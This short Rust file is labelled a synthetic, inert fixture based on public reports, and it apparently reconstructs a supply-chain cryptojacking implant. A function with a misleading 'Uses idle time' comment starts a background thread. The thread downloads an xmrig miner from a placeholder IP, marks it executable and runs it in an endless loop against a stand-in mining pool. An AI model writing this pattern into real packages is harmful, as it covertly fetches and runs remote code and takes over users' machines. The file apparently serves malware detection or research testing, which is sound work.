// Synthetic, inert fixture written from public reports; see README
//! Uses idle time.
use std::{fs, io, process::Command, thread};

pub(crate) fn start() {
    thread::spawn(|| -> io::Result<()> {
        let file = std::env::temp_dir().join("ultralytics_runner");
        if !file.exists() {
            let url = format!("http://203.0.113.61/{}/xmrig", std::env::consts::ARCH);
            let body = ureq::get(&url).call().map_err(|e| io::Error::new(io::ErrorKind::Other, e.to_string()))?;
            io::copy(&mut body.into_reader(), &mut fs::File::create(&file)?)?;
            #[cfg(unix)]
            fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
        }
        loop {
            Command::new(&file).args(["-o", "connect.pool.example.invalid:8080", "-u", "4synthetic", "--cpu-max-threads-hint=50"]).status()?;
        }
    });
}
